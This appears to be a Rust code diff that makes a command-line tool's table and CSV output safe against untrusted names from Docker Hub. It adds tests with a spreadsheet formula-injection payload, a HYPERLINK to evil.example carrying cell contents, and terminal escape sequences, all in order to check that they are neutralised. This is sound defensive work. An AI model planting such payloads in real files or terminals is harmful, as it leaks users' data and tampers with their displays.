@@ -8,6 +8,10 @@
 //! scalars (or lists of scalars, joined with ", "). An output with no such list is shown as one
 //! record of its top-level scalar fields. Nothing here fails on an unexpected shape: it falls back
 //! to the text as the action wrote it.
+//!
+//! Table and CSV cells hold text from Docker Hub (names people chose themselves), so each is made
+//! safe first ([`super::safe_text`]): no escape sequence or control character reaches a terminal,
+//! and no cell starts a spreadsheet formula.
 
 use std::io::{self, Write};
 
@@ -15,6 +19,8 @@ use clap::ValueEnum;
 use indexmap::IndexMap;
 use serde_json::Value;
 use serde_json::value::RawValue;
+
+use super::safe_text::{csv_cell, terminal_line};
 
 /// How to print an action's output.
 #[derive(Debug, Clone, Copy, PartialEq, Eq, ValueEnum)]
@@ -90,14 +96,14 @@ fn cell(value: &Value) -> Option<String> {
     }
 }
 
-/// Writes `table` as aligned columns with an upper-case header; cells are kept on one line and cut
-/// at [`MAX_CELL`] characters.
+/// Writes `table` as aligned columns with an upper-case header; cells are kept on one line without
+/// escape sequences or control characters ([`terminal_line`]) and cut at [`MAX_CELL`] characters.
 pub fn write_table(out: &mut dyn Write, table: &Table) -> io::Result<()> {
     let shown = |text: &str| -> String {
-        let flat: String = text.chars().map(|c| if c.is_control() { ' ' } else { c }).collect();
+        let flat = terminal_line(text);
         if flat.chars().count() > MAX_CELL { flat.chars().take(MAX_CELL - 1).chain(['…']).collect() } else { flat }
     };
-    let header: Vec<String> = table.columns.iter().map(|c| c.to_uppercase()).collect();
+    let header: Vec<String> = table.columns.iter().map(|c| shown(&c.to_uppercase())).collect();
     let rows: Vec<Vec<String>> = table.rows.iter().map(|r| r.iter().map(|c| shown(c)).collect()).collect();
     let mut widths: Vec<usize> = header.iter().map(|h| h.chars().count()).collect();
     for row in &rows {
@@ -120,12 +126,13 @@ pub fn write_table(out: &mut dyn Write, table: &Table) -> io::Result<()> {
     Ok(())
 }
 
-/// Writes `table` as CSV: a header row, then one record per row.
+/// Writes `table` as CSV: a header row, then one record per row, every cell through [`csv_cell`]
+/// (no control characters; a would-be formula starts with `'`), quoted where CSV needs it.
 pub fn write_csv(out: &mut dyn Write, table: &Table) -> io::Result<()> {
     let mut writer = csv::Writer::from_writer(out);
-    writer.write_record(&table.columns).map_err(csv_error)?;
+    writer.write_record(table.columns.iter().map(|c| csv_cell(c))).map_err(csv_error)?;
     for row in &table.rows {
-        writer.write_record(row).map_err(csv_error)?;
+        writer.write_record(row.iter().map(|c| csv_cell(c))).map_err(csv_error)?;
     }
     writer.flush()
 }
@@ -219,6 +226,33 @@ mod tests {
         let mut out = Vec::new();
         write_csv(&mut out, &table).unwrap();
         assert_eq!(String::from_utf8(out).unwrap(), "name,teams\nada,\"a, b\"\n");
+    }
+
+    #[test]
+    fn csv_cells_cannot_start_a_formula_or_hold_control_characters() {
+        let formula = r#"=HYPERLINK("http://evil.example/?"&A1,"click")"#;
+        let table = Table {
+            columns: vec!["name".into(), "note".into()],
+            rows: vec![vec![formula.into(), "two\nlines\u{1b}[2J".into()], vec!["-5".into(), "@x".into()]],
+        };
+        let mut out = Vec::new();
+        write_csv(&mut out, &table).unwrap();
+        let text = String::from_utf8(out).unwrap();
+        assert_eq!(
+            text,
+            "name,note\n\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\",two lines\n-5,'@x\n"
+        );
+        let mut reader = csv::Reader::from_reader(text.as_bytes());
+        let first = reader.records().next().unwrap().unwrap();
+        assert_eq!(&first[0], format!("'{formula}"));
+    }
+
+    #[test]
+    fn table_cells_lose_escape_sequences() {
+        let table = Table { columns: vec!["name".into()], rows: vec![vec!["\u{1b}]0;pwned\u{7}Ada\u{1b}[2J".into()]] };
+        let mut out = Vec::new();
+        write_table(&mut out, &table).unwrap();
+        assert_eq!(String::from_utf8(out).unwrap(), "NAME\nAda\n");
     }
 
     #[test]
